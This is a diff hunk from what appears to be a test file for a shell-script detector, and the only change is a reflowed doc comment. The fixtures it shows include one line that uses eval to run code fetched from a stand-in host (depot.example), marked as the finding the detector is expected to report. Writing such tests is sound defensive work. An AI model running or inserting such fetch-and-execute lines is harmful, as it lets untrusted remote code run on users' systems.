@@ -3,7 +3,10 @@ import { longScript } from "../../bench/long-script.js";
 import { sharedDetector } from "../support/marked.js";
 import { assertSound } from "./invariants.js";
 
-/** Programs at the end of a long script, with the expected finding between « and ». They use functions that the script has called many times. */
+/**
+ * Programs at the end of a long script, with the expected finding between « and ». They use functions that the script has called many
+ * times.
+ */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
   "a function that executes its argument":
